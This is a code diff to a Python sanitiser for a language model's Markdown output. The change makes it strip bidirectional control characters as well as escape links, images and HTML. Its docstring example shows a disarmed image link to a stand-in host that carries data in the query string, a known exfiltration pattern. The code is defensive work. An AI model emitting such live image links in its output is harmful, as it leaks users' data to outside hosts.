@@ -18,7 +18,8 @@ import re
 # block): each becomes a space. Bidirectional controls (U+202E and others) would reorder what follows: dropped.
 _BIDI_CONTROLS = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
 _LINE_BREAKING = [*range(0x20), *range(0x7F, 0xA0), 0x2028, 0x2029]  # Unicode's Cc, Zl and Zp
-_FLATTENED: dict[int, str | None] = {**dict.fromkeys(_LINE_BREAKING, " "), **dict.fromkeys(map(ord, _BIDI_CONTROLS))}
+_WITHOUT_BIDI: dict[int, str | None] = dict.fromkeys(map(ord, _BIDI_CONTROLS))
+_FLATTENED: dict[int, str | None] = {**dict.fromkeys(_LINE_BREAKING, " "), **_WITHOUT_BIDI}
 
 # What Markdown reads inside a line, each backslash-escaped: escapes, code, emphasis, strike-through, links and
 # images ([ ]), tables (|), headings' closing #, Streamlit's math ($), autolinks and HTML (< before a letter, /, !
@@ -59,7 +60,8 @@ def _escape_outward(match: re.Match[str]) -> str:
 
 def model_markdown(text: str) -> str:
     r"""A language model's Markdown with no link, image or HTML left: headings, emphasis, lists, tables and code
-    stay Markdown; link and image syntax, autolinks, web and e-mail addresses and HTML tags show as written.
+    stay Markdown; link and image syntax, autolinks, web and e-mail addresses and HTML tags show as written, and
+    bidirectional controls (which would reorder the text after them, as in customer text) are dropped.
 
     Escapes are not read inside code spans and blocks, so there a disarmed link or tag shows its backslash (and an
     address its invisible word joiner): telling code apart robustly would take a Markdown parser, and a code span
@@ -71,4 +73,4 @@ def model_markdown(text: str) -> str:
         ## C-1
         **At risk**: !\[\](https:<WJ>//evil.example/p.png?d=C-1) \[offer\](http:<WJ>//x.example)
     """
-    return _AUTOLINK.sub(_WORD_JOINER, _OUTWARD.sub(_escape_outward, text))
+    return _AUTOLINK.sub(_WORD_JOINER, _OUTWARD.sub(_escape_outward, text.translate(_WITHOUT_BIDI)))
